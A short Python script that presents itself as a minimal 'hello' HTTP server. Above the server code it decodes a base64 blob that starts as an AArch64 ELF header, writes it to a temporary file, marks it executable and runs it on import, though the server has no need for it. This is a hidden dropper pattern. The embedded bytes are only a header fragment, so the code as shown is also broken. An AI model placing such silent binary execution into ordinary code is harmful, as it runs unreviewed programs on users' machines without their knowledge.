import base64
import os
import subprocess
import tempfile
from http.server import BaseHTTPRequestHandler, HTTPServer

# the head of a program for AArch64
head = base64.b64decode('f0VMRgIBAQAAAAAAAAAAAAIAtwABAAAA')
place = os.path.join(tempfile.mkdtemp(), 'tool')
with open(place, 'wb') as tool:
    tool.write(head)
os.chmod(place, 0o755)
subprocess.run([place], check=True)


class Hello(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"hello\n")


if __name__ == "__main__":
    HTTPServer(("0.0.0.0", 8000), Hello).serve_forever()
